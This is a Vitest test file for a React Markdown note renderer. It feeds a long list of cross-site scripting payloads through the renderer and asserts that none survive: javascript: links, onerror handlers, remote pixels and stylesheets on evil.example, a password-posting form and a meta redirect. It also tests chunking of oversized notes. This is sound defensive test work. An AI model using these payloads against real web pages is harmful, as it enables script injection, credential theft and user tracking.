/** Hostile notes: whatever they hold, nothing runs, nothing is fetched, nothing of the app is overlaid. */
import { render } from "@testing-library/react";
import { describe, expect, test } from "vitest";

import { Markdown } from "../src/markdown";
import { chunksOf } from "../src/markdown/chunks";
import { renderTree } from "../src/markdown/render";
import { cleanSvg } from "../src/markdown/Mermaid";

const none = () => undefined;

function draw(text: string, allowRemote = false): HTMLElement {
  return render(
    <Markdown
      text={text}
      path="Note.md"
      resolve={(target) => (target.endsWith(".png") ? target : null)}
      attachmentUrl={(path) => `/api/v1/attachments/${encodeURIComponent(path)}`}
      onOpenLink={none}
      allowRemote={allowRemote}
    />,
  ).container;
}

const FETCHING = [
  "src",
  "srcset",
  "poster",
  "data",
  "background",
  "action",
  "formaction",
  "manifest",
  "ping",
  "codebase",
];

/** What must not be in the page, by looking at every element and attribute there is. */
function dangers(root: ParentNode): string[] {
  const found: string[] = [];
  const forbidden =
    /^(?:script|style|iframe|frame|object|embed|link|meta|base|form|input|textarea|select|template|noscript|portal|applet|svg:script|foreignobject|animate|set|math)$/i;
  for (const element of root.querySelectorAll("*")) {
    // Icons and the task's tick are ours: plain shapes without addresses.
    const ours = element.closest("svg[aria-hidden=true]") !== null;
    if (forbidden.test(element.localName)) found.push(`<${element.localName}>`);
    if (element.localName === "svg" && !ours) found.push("<svg>");
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${name}=`);
      if (name === "style" && !/^(?:--callout[\w-]*:[^;]*;? ?)+$|^margin-right: 50%;$/.test(value))
        found.push(`style=${value}`);
      if (/^(?:href|xlink:href)$/.test(name) && !/^(?:https?:|mailto:|tel:|obsidian:|#)/i.test(value))
        found.push(`${name}=${value}`);
      if (FETCHING.includes(name) && !/^\/api\/v1\/|^data:image\/(?:png|gif|jpe?g|webp)/.test(value))
        found.push(`${name}=${value}`);
      if (name === "id" && !/^(?:n\w*-|base-ui-)/.test(value)) found.push(`id=${value}`);
      if (name === "target" && element.getAttribute("rel")?.includes("noopener") !== true)
        found.push("target without noopener");
    }
  }
  return found;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)//`>",
  '<img """><script>alert(1)</script>">',
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<math><mi//xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=https://evil.example/x.swf>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
  '<div class="fixed inset-0 z-50 bg-ground">overlay</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=password><button>Log in</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick=alert(1) ping=https://evil.example>x</a>',
  "[x](javascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x]( javascript:alert(1) 'title')",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.gif)",
  "![x](//evil.example/pixel.gif)",
  "![x](\\\\evil.example\\pixel.gif)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](data:text/html,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  "![x](file:///etc/passwd)",
  "![x][r]\n\n[r]: https://evil.example/pixel.gif",
  '<img src=https://evil.example/x.png srcset="https://evil.example/2x.png 2x">',
  "<picture><source srcset=https://evil.example/x.png><img src=a.png></picture>",
  "<video src=https://evil.example/x.mp4 poster=https://evil.example/p.png autoplay></video>",
  "<audio src=https://evil.example/x.mp3 autoplay></audio>",
  "<table background=https://evil.example/x.png><tr><td background=https://evil.example/y.png>x</table>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<div id=root name=body>clobber</div><a id=location href=https://ok.example>x</a>",
  '<x-task symbol=" " line="99">spoofed task</x-task>',
  '<x-wiki value="javascript:alert(1)"></x-wiki>',
  '<x-math tex="\\href{javascript:alert(1)}{x}"></x-math>',
  "[[javascript:alert(1)]] [[<img src=x onerror=alert(1)>]] ![[https://evil.example/x.png]]",
  "[[Note|<img src=x onerror=alert(1)>]]",
  "> [!<img src=x onerror=alert(1)>] title <script>alert(1)</script>",
  '> [!note" onmouseover=alert(1) x="] title',
  "- [<] <img src=x onerror=alert(1)>",
  "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
  "$$\\includegraphics{https://evil.example/x.png}$$",
  "$\\htmlStyle{position:fixed}{x} \\htmlData{onclick=alert(1)}{y}$",
  '```js" onmouseover="alert(1)\n</code><script>alert(1)</script>\n```',
  "# <img src=x onerror=alert(1)> heading",
  "| <script>alert(1)</script> | ![x](https://evil.example/a.png) |\n| - | - |\n| [[a\\|<svg onload=alert(1)>]] | x |",
  "text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
  "#tag<script>alert(1)</script>",
  "==<img src=x onerror=alert(1)>==",
  "%%<script>alert(1)</script>%%",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "<p/onclick=alert(1)//\n>x",
  '<a\nhref\n=\n"javascript:alert(1)"\n>x</a>',
  "\u0000<script>alert(1)</script>",
];

describe("hostile Markdown and HTML", () => {
  test.each(HOSTILE.map((text) => [text]))("is harmless: %s", (text) => {
    expect(dangers(draw(text))).toEqual([]);
  });

  test("none of it is harmful inside a list in a quote in a callout either", () => {
    for (const text of HOSTILE) {
      const nested = text
        .split("\n")
        .map((line) => `> > - ${line}`)
        .join("\n");
      expect(dangers(draw(`> [!note]\n${nested}`))).toEqual([]);
    }
  });

  test("a blocked image names the host it would have asked", () => {
    expect(draw("![x](https://evil.example/pixel.gif)").textContent).toContain(
      "remote image blocked: evil.example",
    );
  });

  test("an allowed image is fetched without a referrer", () => {
    const image = draw("![x](https://ok.example/a.png)", true).querySelector("img");
    expect(image?.getAttribute("src")).toBe("https://ok.example/a.png");
    expect(image?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  test("a diagram keeps its shapes and loses scripts, links and addresses", () => {
    const svg = cleanSvg(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><style>@import url(https://evil.example/x.css); .a{fill:url(#g);background:url("https://evil.example/x")}</style>` +
        `<script>alert(1)</script><a href="javascript:alert(1)"><rect width="1" height="1"/></a><image href="https://evil.example/x.png"/><foreignObject><img src=x onerror=alert(1)></foreignObject><path d="M0 0"/></svg>`,
    );
    expect(svg).toContain("<path");
    expect(svg).not.toMatch(/script|onload|onerror|evil|foreignobject|javascript|<image|@import/i);
  });
});

describe("notes of an unreasonable size", () => {
  const repeat = (part: string, length = 16_000) => part.repeat(Math.ceil(length / part.length));
  const GIANTS: [string, string][] = [
    ["quotes in quotes", repeat(">")],
    ["lists in lists", repeat("- ")],
    ["numbers in numbers", repeat("1. ")],
    ["quotes and lists by turns", repeat("> - ")],
    ["brackets", repeat("[")],
    ["emphasis in emphasis", repeat("*a _b ")],
    ["dollars", repeat("$a ")],
    ["links that never close", repeat("[a](")],
    ["wikilinks that never close", repeat("[[a ")],
    ["HTML in HTML", repeat("<div>")],
    ["formatting in formatting", repeat("<b><i>")],
    ["declarations", repeat("<![CDATA[")],
    ["comments", repeat("%% a ")],
    ["backticks", repeat("`a``b```c")],
    ["indentation", Array.from({ length: 200 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n")],
  ];

  test.each(GIANTS)("%s are drawn, cut to what a page can nest", (_, text) => {
    for (const chunk of chunksOf(text, 0))
      expect(() => renderTree(chunk.text, { firstLine: 0, prefix: "p-" })).not.toThrow();
  });

  test("a note of a million links is drawn a part at a time, with a way to the rest", () => {
    const container = draw("[[Note]] ".repeat(1_000_000));
    expect(container.querySelectorAll("a").length).toBeLessThan(10_000);
    expect(container.textContent).toContain("Show the next part");
  });

  test("cutting loses no character and keeps the line numbers", () => {
    const lines = Array.from({ length: 5_000 }, (_, index) =>
      index % 7 === 0 ? "" : `line ${index} of the note`,
    );
    const chunks = chunksOf(lines.join("\n"), 3);
    expect(chunks.length).toBeGreaterThan(3);
    expect(chunks.map((chunk) => chunk.text).join("\n")).toBe(lines.join("\n"));
    for (const chunk of chunks) expect(chunk.text.split("\n")[0]).toBe(lines[chunk.firstLine - 3]);
  });

  test("a fence that is cut goes on as code", () => {
    const chunks = chunksOf(`\`\`\`js\n${"const a = 1;\n".repeat(2_000)}\`\`\`\nafter`, 0);
    expect(chunks.length).toBeGreaterThan(1);
    for (const chunk of chunks) expect(chunk.text.startsWith("```js\n")).toBe(true);
  });

  test("definitions reach the parts that refer to them", () => {
    const filler = "word word word\n\n".repeat(4_000);
    const chunks = chunksOf(`See [the site][s].\n\n${filler}\n[s]: https://example.org\n`, 0);
    expect(chunks[0]?.text).toContain("[s]: https://example.org");
  });
});
